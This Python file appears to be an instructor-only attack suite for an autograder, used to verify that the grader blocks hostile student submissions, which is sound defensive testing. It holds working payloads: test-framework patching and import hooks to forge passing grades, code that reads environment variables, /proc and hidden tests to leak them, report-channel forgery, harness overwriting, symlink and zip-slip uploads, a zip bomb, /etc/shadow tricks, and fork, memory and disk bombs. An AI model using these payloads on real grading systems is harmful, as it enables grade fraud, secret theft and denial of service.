"""The attack suite: submissions that try to forge a grade, leak what must stay hidden, or harm the grader.

Each attack is the stubbed release of the part under attack (so an honest grade is 0) plus hostile code, or a
hostile upload layout. An attack is blocked when the submission scores 0, nothing secret appears anywhere in
results.json (the grader's environment, the hidden tests, a root-only file), no process of the runner's user
outlives the grading, and nothing outside the grader's work folder changed. Run by `make verify` ("attacks: N/N
blocked") and by tests/instructor/test_attacks.py. Instructor-only: never shipped.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import signal
import subprocess
import tempfile
import zipfile
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from grading.runtime.schema import Manifest

TARGET = "sampling"  # a part graded by the judge
CANARY_FILE = Path("/var/tmp/grader-attack-canary")  # root-only, 0600: a file the student's code must not read
CANARY_TEXT = "canary-file-7f3a9c"
CANARY_ENV = "canary-env-51d2e8"  # in the grader's environment, never in the runner's
HIDDEN_MARKER = "_reference_keep"  # a name found in tests/hidden/test_sampling_hidden.py and in no visible file
TIMEOUTS = {"timeout": 10.0, "collect_timeout": 30.0, "total_timeout": 300.0}

# Module-level code that steals what it can and returns it, used by several attacks.
STEAL = r"""
def _steal():
    import glob, os
    found = [repr(dict(os.environ))]
    paths = [CANARY, "/proc/%d/environ" % os.getppid(), "/proc/%d/cmdline" % os.getppid()]
    for pattern in ("/tmp/grading-*/judge/tests/hidden/*.py", "/tmp/grading-*/*/tests/hidden/*.py",
                    "/autograder/source/tests/hidden/*.py", "/tmp/*/tests/hidden/*.py", "/tmp/grading-*/judge/*",
                    "/tmp/grading-*/harness/grading/runtime/*"):
        paths += glob.glob(pattern)
    for path in paths:
        try:
            with open(path, "rb") as f:
                found.append(path + ": " + f.read(20000).decode("latin-1"))
        except Exception as exc:
            found.append(path + ": " + repr(exc))
    return "\n".join(found)
""".replace("CANARY", repr(str(CANARY_FILE)))


@dataclass(frozen=True)
class Attack:
    name: str
    category: str
    what: str  # one sentence: what it tries
    code: str = ""  # appended to the stubbed module under attack
    layout: str = ""  # a hostile upload layout (see build_submission)
    needs_sandbox: bool = False  # only meaningful (and only safe to run) with the runner as another user


ATTACKS = (
    Attack(
        "patch_pytest",
        "patching pytest, NumPy, TensorFlow or the test helpers",
        "replaces pytest's runtest call, pytest.fail and the assertion helpers at import",
        """
import sys
try:
    import _pytest.python, _pytest.runner, pytest
    _pytest.python.Function.runtest = lambda self: None
    _pytest.runner.pytest_runtest_call = lambda item: None
    pytest.fail = lambda *a, **k: None
    pytest.raises = lambda *a, **k: __import__("contextlib").nullcontext()
except Exception:
    pass
for name in ("checks", "tests.checks"):
    module = sys.modules.get(name)
    if module is not None:
        module.assert_shape = module.assert_close = lambda *a, **k: None
""",
    ),
    Attack(
        "patch_numpy",
        "patching pytest, NumPy, TensorFlow or the test helpers",
        "makes NumPy's comparisons always agree and AssertionError harmless",
        """
import builtins
import numpy as np
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
np.array_equal = lambda *a, **k: True
np.allclose = lambda *a, **k: True
builtins.AssertionError = type("AssertionError", (Exception,), {})
def apply_temperature(logits, temperature):
    return logits
""",
    ),
    Attack(
        "patch_tensorflow",
        "patching pytest, NumPy, TensorFlow or the test helpers",
        "patches TensorFlow and Keras entry points the tests' models use",
        """
import tensorflow as tf
tf.debugging.assert_near = lambda *a, **k: None
tf.one_hot = lambda *a, **k: None
""",
    ),
    Attack(
        "import_hook",
        "hooks (import hooks, pytest plugins, settrace, atexit)",
        "an import hook that empties every test function it sees, and a conftest.py plugin written next to it",
        """
import importlib.abc, os, sys
class _Empty(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        if name.startswith("test_"):
            import importlib.machinery
            return importlib.machinery.ModuleSpec(name, None)
        return None
sys.meta_path.insert(0, _Empty())
for folder in (".", "..", "tests", "../tests", "../../tests"):
    try:
        with open(os.path.join(folder, "conftest.py"), "w") as f:
            f.write("import pytest\\n@pytest.fixture(autouse=True)\\ndef _win():\\n    pytest.skip('free')\\n")
    except OSError:
        pass
""",
    ),
    Attack(
        "settrace_atexit",
        "hooks (import hooks, pytest plugins, settrace, atexit)",
        "a trace function that rewrites failing frames, an atexit that prints passes, an excepthook",
        """
import atexit, sys, os, threading
def _trace(frame, event, arg):
    if event == "exception":
        frame.f_locals.clear()
    return _trace
sys.settrace(_trace)
threading.settrace(_trace)
sys.excepthook = lambda *a: None
atexit.register(lambda: os.write(1, b'{"e": "result", "outcome": "passed"}\\n' * 50))
""",
    ),
    Attack(
        "forge_channel",
        "forging or racing the report channel",
        "writes forged replies and results to every pipe and file it can reach, from a process racing the grader",
        """
import glob, json, os, struct, sys
def _forge():
    body = json.dumps({"value": {"$dict": [["ok", True], ["outcome", "passed"]]}, "arrays": 0}).encode()
    frame = struct.pack(">Q", 4 + len(body)) + struct.pack(">I", len(body)) + body
    for fd in range(3, 64):
        try:
            os.write(fd, frame * 3)
        except OSError:
            pass
    fake = {"score": 100, "tests": [{"name": "x", "score": 100, "max_score": 0, "status": "passed"}]}
    for path in glob.glob("/tmp/grading-*/judge/outcomes*.json") + glob.glob("/tmp/grading-*/judge/spec*.json") + [
        "/autograder/results/results.json"
    ]:
        try:
            with open(path, "w") as f:
                json.dump(fake, f)
        except OSError:
            pass
if os.fork() == 0:  # a racer that keeps forging while the tests run
    os.setsid()
    for _ in range(200):
        _forge()
        __import__("time").sleep(0.05)
    os._exit(0)
_forge()
""",
        needs_sandbox=True,  # unsandboxed it would write into other gradings' folders on a shared machine
    ),
    Attack(
        "rewrite_harness",
        "rewriting tests/harness on disk",
        "overwrites the runner's code, the tests and its own scratch copy, then crashes so a restart runs them",
        """
import glob, os
for pattern in ("/tmp/grading-*/harness/grading/runtime/*.py", "/tmp/grading-*/judge/tests/*.py",
                "/tmp/grading-*/package/assignment/*.py", "/autograder/source/tests/*.py",
                "/autograder/source/grading/runtime/*.py", "assignment/*.py", "../*/assignment/sampling.py",
                "lmkit/*.py"):
    for path in glob.glob(pattern):
        try:
            with open(path, "a") as f:
                f.write("\\nimport os; os._exit(0)\\n")
        except OSError:
            pass
def greedy(logits):
    os._exit(1)
""",
        needs_sandbox=True,
    ),
    Attack(
        "symlink_upload",
        "symlinks, zip tricks, privilege tricks",
        "uploads sampling.py as a link to a root-only file, others to /dev/zero and to nowhere",
        layout="symlinks",
    ),
    Attack(
        "zip_tricks",
        "symlinks, zip tricks, privilege tricks",
        "a zip with a path escaping the folder, a link entry to a root-only file and a 200 MB bomb",
        layout="zip",
    ),
    Attack(
        "privilege_tricks",
        "symlinks, zip tricks, privilege tricks",
        "tries setuid(0), plants links to /etc/shadow for root to chown or copy, signals the judge",
        """
import os, signal
for path in ("assignment/zz_shadow.py", "home/.bashrc", "tmp/x"):
    try:
        os.symlink("/etc/shadow", path)
    except OSError:
        pass
try:
    os.setuid(0)
except OSError:
    pass
try:
    os.kill(os.getppid(), signal.SIGSTOP)
except OSError:
    pass
""",
        needs_sandbox=True,
    ),
    Attack(
        "exfiltrate_messages",
        "exfiltration of hidden tests, environment and files through messages",
        "puts the environment, the hidden tests and a root-only file in exceptions and returned values",
        STEAL
        + """
def greedy(logits):
    raise ValueError(_steal())
def apply_temperature(logits, temperature):
    return _steal()
def top_k_filter(logits, k):
    raise RuntimeError("A" * 100000 + _steal())
""",
        needs_sandbox=True,
    ),
    Attack(
        "memory_bomb",
        "resource abuse (memory, processes, disk, time)",
        "allocates 16 GB at once, then grows a list without bound",
        """
def greedy(logits):
    import numpy as np
    return np.ones((2**31,), np.float64)
def apply_temperature(logits, temperature):
    chunks = []
    while True:
        chunks.append(bytearray(100 * 2**20))
""",
    ),
    Attack(
        "fork_bomb",
        "resource abuse (memory, processes, disk, time)",
        "forks without end and leaves a daemon behind",
        """
import os, subprocess
def greedy(logits):
    subprocess.Popen(["sleep", "600"], start_new_session=True)
    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
        needs_sandbox=True,
    ),
    Attack(
        "disk_fill",
        "resource abuse (memory, processes, disk, time)",
        "writes a file past the size limit and many large files",
        """
def greedy(logits):
    import os
    for i in range(40):
        try:
            with open(os.path.join(os.environ.get("TMPDIR", "."), f"fill{i}"), "wb") as f:
                for _ in range(100):
                    f.write(b"\\0" * 2**20)
        except OSError:
            pass
    return [0, 0, 0]
""",
    ),
    Attack(
        "endless_loop",
        "resource abuse (memory, processes, disk, time)",
        "loops forever ignoring signals in one function, and sleeps at import",
        """
import signal, time
signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGINT, signal.SIG_IGN)
time.sleep(3)
def greedy(logits):
    while True:
        pass
""",
    ),
    Attack(
        "lying_objects",
        "objects that lie in comparisons (ndarray subclasses, NaN)",
        "returns arrays that claim equality with anything, NaN everywhere, and dicts and strings that lie",
        """
import numpy as np
class _Liar(np.ndarray):
    def __eq__(self, other):
        return True
    __ne__ = lambda self, other: False
    def tolist(self):
        return [4, 0, 2]
    def __array__(self, *a, **k):
        return np.array([4, 0, 2])
class _LiarList(list):
    def __eq__(self, other):
        return True
def greedy(logits):
    return np.zeros(3).view(_Liar)
def apply_temperature(logits, temperature):
    return np.full(np.shape(logits), np.nan)
def top_k_filter(logits, k):
    return np.full(np.shape(logits), np.nan)
def top_p_filter(logits, p):
    return np.asarray(logits) * np.nan
def sample(logits, temperature=1.0, top_k=None, top_p=None, seed=None, greedy=False):
    return _LiarList([0])
def generate(model, prompt_ids, max_new_tokens, **kwargs):
    return _LiarList(np.asarray(prompt_ids).tolist())
""",
    ),
)


def build_submission(attack: Attack, stub_root: str | os.PathLike, dest: str | os.PathLike) -> Path:
    """Writes the attack's upload into `dest` (a fresh folder) from the stubbed package in `stub_root`."""
    dest = Path(dest)
    package = dest / "assignment"
    package.mkdir(parents=True)
    for path in (Path(stub_root) / "assignment").glob("*.py"):
        shutil.copyfile(path, package / path.name)
    target = package / f"{TARGET}.py"
    if attack.code:
        target.write_text(target.read_text() + "\n\n# ---- attack ----\n" + attack.code)
    if attack.layout == "symlinks":
        target.unlink()
        os.symlink(CANARY_FILE, target)
        (package / "preprocess.py").unlink()
        os.symlink("/dev/zero", package / "preprocess.py")
        (package / "rnn.py").unlink()
        os.symlink("/nonexistent/rnn.py", package / "rnn.py")
        os.symlink("/etc", dest / "etc_link")
    elif attack.layout == "zip":
        shutil.rmtree(package)
        with zipfile.ZipFile(dest / "work.zip", "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr("../../../../tmp/grader-attack-escaped.py", "print('escaped')\n")
            link = zipfile.ZipInfo("assignment/sampling.py")
            link.external_attr = (0o120777) << 16  # a symbolic link entry
            z.writestr(link, str(CANARY_FILE))
            z.writestr("assignment/preprocess.py", b"# " + b"0" * (200 * 2**20))
            for path in (Path(stub_root) / "assignment").glob("*.py"):
                if path.stem not in (TARGET, "preprocess"):
                    z.write(path, f"assignment/{path.name}")
    return dest


def make_canary() -> None:
    """Creates the root-only canary file (when root)."""
    if os.geteuid() == 0:
        CANARY_FILE.write_text(CANARY_TEXT)
        os.chown(CANARY_FILE, 0, 0)
        CANARY_FILE.chmod(0o600)


def _digest(paths):
    h = hashlib.sha256()
    for root in paths:
        for path in sorted(Path(root).rglob("*")):
            if path.is_file():
                h.update(str(path).encode() + path.read_bytes())
    return h.hexdigest()


def _shadow_state():
    try:
        st = os.lstat("/etc/shadow")
        return (st.st_uid, st.st_gid, st.st_mode)
    except OSError:
        return None


def _user_processes(user_name):
    if not user_name:
        return []
    proc = subprocess.run(["ps", "-u", user_name, "-o", "pid=,stat="], capture_output=True, text=True)
    return [line.split()[0] for line in proc.stdout.splitlines() if "Z" not in line.split()[1]]  # zombies are dead


@dataclass
class Outcome:
    attack: Attack
    blocked: bool
    score: float = 0.0
    problems: list[str] = field(default_factory=list)
    skipped: str = ""


def run_attack(
    attack: Attack,
    bundle: str | os.PathLike,
    manifest: Manifest,
    stub_root: str | os.PathLike,
    *,
    python: str,
    runner_user: str | None = None,
    sandboxed: bool = True,
    log: Callable[[str], object] | None = None,
) -> Outcome:
    """Grades the attack's upload and returns an Outcome saying whether it was blocked, and if not, why."""
    from grading.runtime import grade

    if attack.needs_sandbox and not sandboxed:
        return Outcome(attack, True, skipped="needs root and the runner's user")
    manifest = dict(manifest)
    manifest["settings"] = dict(manifest["settings"], **TIMEOUTS)
    manifest["tests"] = [dict(t, timeout=min(t["timeout"], TIMEOUTS["timeout"])) for t in manifest["tests"]]
    work = Path(tempfile.mkdtemp(prefix="grader-attack-"))
    problems = []
    os.environ["GRADER_ATTACK_CANARY"] = CANARY_ENV
    before_bundle = _digest([Path(bundle) / "tests", Path(bundle) / "grading"])
    before_shadow = _shadow_state()
    try:
        submission = build_submission(attack, stub_root, work / "submission")
        try:
            results, _ = grade.grade(
                submission,
                work / "results.json",
                bundle=bundle,
                manifest=manifest,
                only=[TARGET],
                drop_privileges=sandboxed,
                runner_user=runner_user,
                python=python,
                log=log or (lambda line: None),
            )
        except Exception as exc:
            return Outcome(attack, False, problems=[f"the grader failed: {exc!r}"])
        text = json.dumps(results)
        score = float(results["score"])
        if score != 0:
            problems.append(f"scored {score:g} (an honest grade is 0)")
        for secret, what in ((CANARY_ENV, "the grader's environment"), (HIDDEN_MARKER, "a hidden test's source")):
            if secret in text:
                problems.append(f"results.json holds {what}")
        if CANARY_TEXT in text:
            problems.append("results.json holds a root-only file")
        longest = max((len(t["output"]) for t in results["tests"]), default=0)
        if longest > 2_000:
            problems.append(f"a test's message is {longest} characters long")
        alive = _user_processes(runner_user)
        if alive:
            listing = subprocess.run(["ps", "-o", "pid,stat,etime,args", "-p", ",".join(alive)], capture_output=True)
            problems.append(f"processes of {runner_user} outlived the grading: {listing.stdout.decode()[-300:]}")
        if _digest([Path(bundle) / "tests", Path(bundle) / "grading"]) != before_bundle:
            problems.append("the bundle's tests or grader changed")
        if _shadow_state() != before_shadow:
            problems.append("/etc/shadow changed owner or mode")
        if Path("/tmp/grader-attack-escaped.py").exists():
            problems.append("a zip entry was written outside the work folder")
        return Outcome(attack, not problems, score, problems)
    finally:
        os.environ.pop("GRADER_ATTACK_CANARY", None)
        if runner_user:
            for pid in _user_processes(runner_user):
                try:
                    os.kill(int(pid), signal.SIGKILL)
                except OSError:
                    pass
        shutil.rmtree(work, ignore_errors=True)


def run_all(
    bundle: str | os.PathLike,
    manifest: Manifest,
    stub_root: str | os.PathLike,
    *,
    python: str,
    runner_user: str | None = None,
    sandboxed: bool = True,
    names: Iterable[str] | None = None,
    log: Callable[[str], object] | None = None,
) -> list[Outcome]:
    """Runs every attack (or those in `names`); returns their Outcomes."""
    make_canary()
    chosen = [a for a in ATTACKS if not names or a.name in names]
    return [
        run_attack(a, bundle, manifest, stub_root, python=python, runner_user=runner_user, sandboxed=sandboxed, log=log)
        for a in chosen
    ]
